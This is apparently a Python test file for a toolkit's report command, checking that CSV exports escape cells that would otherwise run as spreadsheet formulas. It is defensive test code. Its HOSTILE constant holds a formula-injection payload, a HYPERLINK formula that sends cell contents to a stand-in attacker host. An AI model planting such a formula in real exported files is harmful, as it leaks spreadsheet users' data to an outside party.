"""The report's CSV exports are spreadsheet-safe: text never runs as a formula when opened."""

from __future__ import annotations

import csv
from pathlib import Path

from click.testing import CliRunner

from tests.support import report_campaign
from toolkit.cli import cli
from toolkit.evidence import audit
from toolkit.reporting import csv_cell
from toolkit.workbook import store

HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def test_text_that_starts_a_formula_is_neutralised_and_numbers_stay_numbers() -> None:
    assert [csv_cell(v) for v in ("=1+1", "+33 1", "-x", "@SUM(A1)", "\tcmd", "\rcmd")] == [
        "'=1+1",
        "'+33 1",
        "'-x",
        "'@SUM(A1)",
        "'\tcmd",
        "'\rcmd",
    ]
    assert [csv_cell(v) for v in (-1.5, 0, 12, None, "b8-fp32", "a=b")] == [
        -1.5,
        0,
        12,
        "",
        "b8-fp32",
        "a=b",
    ]


def test_attempts_and_manifest_csv_hold_hostile_text_as_text(tmp_path: Path) -> None:
    data = report_campaign.campaign()
    audit.exclude(data, "b4-fp32-r1", HOSTILE)
    data.tables["Manifest"][0]["corpus_path"] = "=1+1.jsonl"
    path = tmp_path / "campaign.xlsx"
    store.save(data, path)
    result = CliRunner().invoke(cli, ["report", str(path), "--no-png"])
    assert result.exit_code == 0, result.output
    folder = tmp_path / "campaign_report"
    with open(folder / "attempts.csv", encoding="utf-8", newline="") as handle:
        attempts = {row["attempt_id"]: row for row in csv.DictReader(handle)}
    assert attempts["b4-fp32-r1"]["exclusion_reason"] == "'" + HOSTILE
    assert attempts["b4-fp32-r1"]["measured_s"] == "15.3"  # a number, written as one
    with open(folder / "manifest.csv", encoding="utf-8", newline="") as handle:
        manifest = list(csv.DictReader(handle))
    assert manifest[0]["corpus_path"] == "'=1+1.jsonl"
